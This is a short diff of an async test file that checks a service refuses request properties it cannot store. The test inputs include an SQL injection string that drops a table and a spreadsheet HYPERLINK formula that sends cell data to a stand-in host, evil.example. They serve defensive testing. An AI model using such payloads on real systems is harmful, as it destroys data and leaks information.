@@ -782,7 +782,7 @@ async def test_added_properties_refuse_what_cannot_be_stored(heliograph: Heliogr
     )
     assert status == 404
 
-    sql_key = "x') OR 1=1; DROP TABLE request_properties; --"
+    sql_key = "x') or 1=1; drop table request_properties; --"  # keys are stored lower-cased
     formula = '=HYPERLINK("http://evil.example/"&A1)'
     for key, value in ((sql_key, "v"), ("formula", formula)):
         status, answer = await call(heliograph, "PUT", path, {"key": key, "value": value})
